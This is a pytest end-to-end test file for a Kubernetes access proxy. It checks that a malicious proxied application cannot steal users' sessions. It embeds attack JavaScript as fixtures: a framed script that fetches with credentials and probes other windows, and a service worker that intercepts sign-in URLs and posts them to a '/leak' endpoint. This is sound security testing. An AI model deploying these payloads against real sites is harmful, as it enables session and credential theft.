"""What does an application that attacks its visitors get, in a browser and to the end?

Nothing of anybody's session.
"""

from __future__ import annotations

import contextlib
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page

from bastion.demo.run import HOST_SUFFIX
from tests.demo.fronts import Front, another, arrive
from tests.e2e.browser import NAVIGATION
from tests.loopback import free_port
from tests.standalone.objects import binding, pod, role, rule, service

pytestmark = pytest.mark.timeout(600)  # the first time the browser may have to be installed

EVIL = "evil--open.svc." + HOST_SUFFIX
PATH = "/api/v1/namespaces/open/services/evil/proxy"

# Tries to act on another application by itself, and through a page of the bastion's own; tells the page
# around it what came of it.
FRAMED = """<button>a game</button><script>
document.querySelector("button").onclick = async () => {
  const told = [self.origin];
  const attempt = async act => { try { told.push(await act()); } catch (error) { told.push(error.name); } };
  const steal = where => where.fetch("TARGET", {credentials: "include"}).then(answer => answer.text());
  await attempt(() => steal(self));
  const opened = open("/version");
  await new Promise(done => setTimeout(done, 700));
  await attempt(() => steal(opened));
  await attempt(() => opened.document.body.textContent);
  parent.postMessage(told, "*");
};
</script>"""
FRAMING = """<script>
onmessage = message => { document.title = JSON.stringify(message.data); }
</script><iframe src="TARGET"></iframe>"""
APPLICATION = """<h1>app</h1><script>
navigator.serviceWorker.register("/worker.js")
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = "ready"; });
</script>"""
# Keeps from the bastion every step of signing in that comes by, and hands it to whoever listens at the
# application.
WORKER = """
addEventListener("install", event => event.waitUntil(skipWaiting()));
addEventListener("activate", event => event.waitUntil(clients.claim()));
addEventListener("fetch", event => {
  if (event.request.url.includes("/.bastion/"))
    event.respondWith(
      fetch("/leak", {method: "POST", body: event.request.url}).then(() => new Response("thank you"))
    );
});
"""


class Attacker(ThreadingHTTPServer):
    """The application's pod, and the page of another site.

    `pages`: path -> (type, content); `leaked` is what its worker saw.
    """

    daemon_threads = True

    def __init__(self, address: str) -> None:
        super().__init__((address, 8080), _Attack)
        self.leaked: list[str] = []
        self.pages: dict[str, tuple[str, str]] = {
            "/": ("text/html", APPLICATION),
            "/worker.js": ("text/javascript", WORKER),
        }


class _Attack(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        kind, content = self.server.pages.get(self.path, ("text/plain", "not found"))
        self._answer(kind, content.encode())

    def do_POST(self) -> None:
        self.server.leaked.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self._answer("text/plain", b"")

    def _answer(self, kind: str, content: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def attacker(demo: Front) -> Iterator[Attacker]:
    with Attacker(_address(demo)) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def _address(demo: Front) -> str:
    """Where the demo has nothing."""
    return f"{demo.network}.90"


@contextlib.contextmanager
def attacked(demo: Front, folder: Path, *flags: object, port: int = 0) -> Iterator[Front]:
    """A bastion with the attacker's application, which everybody may see."""
    everybody = ("User/system:anonymous", "Group/system:authenticated")
    objects: list[Any] = [
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "open"}},
        pod("evil", namespace="open", ip=_address(demo), labels={"app": "evil"}, ports=[("http", 8080)]),
        service("evil", namespace="open", selector={"app": "evil"}),
        role("see-open", rule("*", "core", "services/proxy"), namespace="open"),
        binding("see-open", "Role/see-open", *everybody, namespace="open"),
    ]
    file = folder / "open.json"
    file.write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": objects}))
    with another(demo, folder, "--manifests", file, *flags, port=port) as front:
        yield front


def test_a_page_that_everybody_may_see_is_not_the_bastions_in_a_frame_of_another_site(
    page: Page, demo: Front, attacker: Attacker, tmp_path: Path
) -> None:
    with attacked(demo, tmp_path, "--anonymous-auth") as front:
        page.goto(f"{front.url}/login")
        page.get_by_label("Token").fill(front.token("alice"))
        page.get_by_role("button", name="Sign in").click()
        page.get_by_role("heading", name="What you may open").wait_for()
        target = front.by_path("guestbook") + "from-a-frame"
        attacker.pages["/framed"] = ("text/html", FRAMED.replace("TARGET", target))
        attacker.pages["/framing"] = ("text/html", FRAMING.replace("TARGET", f"{front.url}{PATH}/framed"))
        page.goto(f"http://{_address(demo)}:8080/framing")
        page.frame_locator("iframe").locator("button").click()
        page.wait_for_function("document.title")
        assert json.loads(page.title()) == ["null", "TypeError", "SecurityError", "SecurityError"]
        assert not [request for request in front.seen("guestbook") if request["target"] == "/from-a-frame"]
        # what the bastion says of itself is shown to a person all the same
        page.goto(f"{front.url}/version")
        assert "gitVersion" in (page.text_content("body") or "")


def test_an_applications_worker_gets_nobody_signed_in_elsewhere(
    page: Page, demo: Front, attacker: Attacker, tmp_path: Path
) -> None:
    port = free_port()
    flags = ("--proxy-host-suffix", HOST_SUFFIX, "--public-url", f"https://localhost:{port}")
    with attacked(demo, tmp_path, *flags, port=port) as front:
        url = f"https://{EVIL}:{port}/"
        begun = _elsewhere(front, "/", {})
        nonce = begun.headers["set-cookie"].partition(";")[0]
        arrive(page, front, url)
        page.wait_for_function("document.title == 'ready'")
        attacker.pages["/lure"] = (
            "text/html",
            f"<script>location = {json.dumps(begun.headers['location'])}</script>",
        )
        page.goto(url + "lure")
        page.get_by_text("This began in another browser").wait_for()
        assert not attacker.leaked
        # In a browser that was never signed in there a code is granted; it is of no use to who began, and of
        # none without the nonce.
        own = [cookie for cookie in page.context.cookies() if cookie["name"] == "__Host-bastion_pairs"]
        assert len(own) == 1
        page.context.clear_cookies(name="__Host-bastion_pairs")
        page.goto(begun.headers["location"])
        page.get_by_text("thank you").wait_for()
        (code,) = attacker.leaked
        taken = _elsewhere(front, code.partition(f":{port}")[2], {"Cookie": nonce})
        assert taken.headers["location"].startswith(f"{front.url}/.bastion/handoff?")
        assert "set-cookie" not in taken.headers
        assert _elsewhere(front, code.partition(f":{port}")[2], {}).status_code == 400
        proved = httpx.get(
            taken.headers["location"].replace("//localhost", "//127.0.0.1"),
            headers=NAVIGATION,
            verify=False,
            trust_env=False,
        )
        assert proved.headers["location"] == "/login"


def _elsewhere(front: Front, path: str, headers: dict[str, str]) -> httpx.Response:
    """What the application's host answers to somebody else."""
    asked = NAVIGATION | {"Host": f"{EVIL}:{front.port}"} | headers
    return httpx.get(f"https://127.0.0.1:{front.port}{path}", headers=asked, verify=False, trust_env=False)
